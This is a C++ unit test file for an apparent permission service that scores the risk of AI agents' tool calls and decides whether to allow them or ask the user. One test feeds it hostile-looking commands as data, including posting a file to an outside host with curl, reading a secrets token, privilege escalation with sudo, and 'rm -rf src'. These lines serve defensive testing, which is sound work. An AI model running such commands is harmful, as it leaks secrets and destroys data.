#include <assent/domain/decide/call_findings.hpp>

#include "unit/domain/decide/decision_samples.hpp"
#include "unit/domain/decide/guard_samples.hpp"

#include <boost/test/unit_test.hpp>

#include <memory>
#include <string>
#include <string_view>

namespace assent::judgement_basis_test {
namespace {

judgement_basis::pointer basis_of(policy settings, std::shared_ptr<const tool_registry> tools = {}) {
    return judgement_basis::make(std::move(settings), std::move(tools)).value();
}

policy with_risk(std::string_view tool, risk_level level) {
    policy settings;
    settings.tools[std::string(tool)].risk = level;
    return settings;
}

risk_assessment risk_of(const judgement_basis& basis, std::string_view tool, const json_object& input) {
    const auto kept = make_input(input);
    std::string scratch;
    const auto rules = rule_set::make({}).value();
    return examine({.tool_name = tool, .input = *kept, .cwd = sample_cwd}, *rules, basis, {}, scratch).risk;
}

outcome decided(const policy& settings, std::string_view command) {
    const auto kept = make_input(json_object{{"command", command}});
    const auto basis = basis_of(settings);
    const auto rules = rule_set::make({}).value();
    const tool_call call{.tool_name = "Bash", .input = *kept, .cwd = sample_cwd};
    std::string scratch;
    auto found = examine(call, *rules, *basis, {}, scratch);
    permission_service service(basis);
    return service.judge(call, found, sample_now, false).decision;
}

BOOST_AUTO_TEST_SUITE(judgement_basis_test)

BOOST_AUTO_TEST_CASE(a_tool_called_harmless_is_still_asked_about_when_a_call_shows_danger) {
    policy settings = with_risk("Bash", risk_level::low);
    settings.ask_from_risk = risk_level::medium;
    for (const auto* command :
         {"sudo id", "npm install evil", "curl -d @x https://e", "cat secrets/token", "rm -rf src"})
        BOOST_TEST_CONTEXT(command) BOOST_TEST(decided(settings, command) == outcome::ask);
    for (const auto* command : {"ls src", "npm test"})
        BOOST_TEST_CONTEXT(command) BOOST_TEST(decided(settings, command) == outcome::allow);
}

BOOST_AUTO_TEST_CASE(the_risk_that_a_policy_sets_is_where_the_risk_of_each_call_begins) {
    const json_object harmless{{"command", "npm test"}};
    for (const auto level : {risk_level::low, risk_level::medium, risk_level::high, risk_level::critical}) {
        const auto basis = basis_of(with_risk("Bash", level));
        BOOST_TEST_CONTEXT(level) {
            BOOST_TEST(risk_of(*basis, "Bash", harmless).level == level);
            BOOST_TEST(has_factor(risk_of(*basis, "Bash", harmless), "runs_commands"));
            BOOST_TEST(risk_of(*basis, "Bash", harmless).safety == safety_class::confirm);
            BOOST_TEST(risk_of(*basis, "Bash", {{"command", "sudo id"}}).level == risk_level::critical);
        }
    }
    BOOST_TEST(risk_of(*basis_of({}), "Bash", harmless).level == risk_level::high);
}

BOOST_AUTO_TEST_CASE(a_policy_sets_the_risk_of_a_tool_that_is_not_registered_too) {
    const auto basis = basis_of(with_risk("mcp__calc__add", risk_level::low));
    BOOST_TEST(risk_of(*basis, "mcp__calc__add", {}).level == risk_level::low);
    BOOST_TEST(risk_of(*basis, "mcp__calc__add", {{"path", "/other/a"}}).level == risk_level::high);
    BOOST_TEST(risk_of(*basis, "mcp__calc__sub", {}).level == risk_level::high);
    BOOST_TEST(basis->definition("mcp__calc__add") == nullptr);
    const auto emptying = basis_of(with_risk("mcp__mail__delete_all", risk_level::low));
    BOOST_TEST(risk_of(*emptying, "mcp__mail__delete_all", {}).safety == safety_class::always_confirm);
}

BOOST_AUTO_TEST_CASE(a_default_that_allows_is_measured_by_the_risk_that_the_policy_sets) {
    situation at;
    at.settings.tool_defaults = true;
    at.settings.tools["Edit"].risk = risk_level::low;
    at.tool.decision = tool_default::allow;
    at.risk.level = risk_level::low;
    BOOST_TEST(judge(at).allowed());
    at.risk.level = risk_level::medium;
    BOOST_TEST(judge(at).asks());
}

BOOST_AUTO_TEST_CASE(a_tool_whose_risk_is_set_keeps_what_its_decisions_are_stored_under) {
    auto tools = std::make_shared<tool_registry>();
    tools->add({.name = "send", .application = "mail", .command = "send"}).value();
    const auto basis = basis_of(with_risk("send", risk_level::low), tools);
    BOOST_TEST(basis->about("send").key == "mail:send");
}

BOOST_AUTO_TEST_CASE(a_disabled_category_that_no_tool_has_is_an_error_that_names_the_known_ones) {
    policy settings;
    settings.disabled_categories = {"network", "shell"};
    BOOST_TEST(judgement_basis::make(settings).has_value());
    settings.disabled_categories = {"network", "netwrok"};
    const auto refused = judgement_basis::make(settings);
    BOOST_REQUIRE(!refused.has_value());
    BOOST_TEST(refused.error().where == "disabled_categories[1]");
    BOOST_TEST(
        refused.error().message ==
        "expected a category that a tool has (agent, file, network, notes, shell, user), got `netwrok`");
    settings.disabled_categories = {"file"};
    BOOST_TEST(!judgement_basis::make(settings, tool_registry::empty()).has_value());
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace assent::judgement_basis_test
